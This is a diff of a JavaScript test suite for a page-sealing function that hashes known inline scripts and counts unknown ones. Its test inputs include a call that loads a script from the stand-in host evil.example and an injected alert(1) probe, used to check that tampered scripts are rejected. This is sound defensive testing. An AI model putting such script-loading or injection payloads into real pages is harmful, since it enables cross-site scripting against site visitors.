@@ -34,13 +34,25 @@ describe('a page that is sealed', () => {
     'late("https://evil.example/a.js")',
     CHUNKS.replace('{"o', '{"x":alert(1),"o'),
   ])('does not know a script that does anything else: %s', (text) => {
-    expect(sealPage(`<p>${script(text)}</p>`).hashes).toEqual([])
+    expect(sealPage(`<p>${script(text)}</p>`)).toMatchObject({ hashes: [], unknown: 1 })
     const among = sealPage(script(BEGIN) + script(text) + script(data('2')))
     expect(among.hashes).not.toContain(hash(text))
   })
 
   it('keeps what is no script as it is', () => {
     const page = '<p>self.__next_f.push([1,"a"])</p><script type="application/ld+json">{"a":1}</script>'
-    expect(sealPage(page)).toEqual({ page, hashes: [] })
+    expect(sealPage(page)).toEqual({ page, hashes: [], unknown: 0 })
+  })
+
+  it.each([
+    '<script id="x">a()</script>',
+    '<script type="module">a()</script>',
+    '<script type="text/javascript">a()</script>',
+  ])('counts a script that nobody knows, however it is written: %s', (text) => expect(sealPage(text).unknown).toBe(1))
+
+  it("counts no script of a file, no data, and none of the operator's own", () => {
+    const page =
+      '<script src="/a.js" async=""></script><script type="application/ld+json">{}</script><script>a()</script>'
+    expect(sealPage(page, [hash('a()')]).unknown).toBe(0)
   })
 })
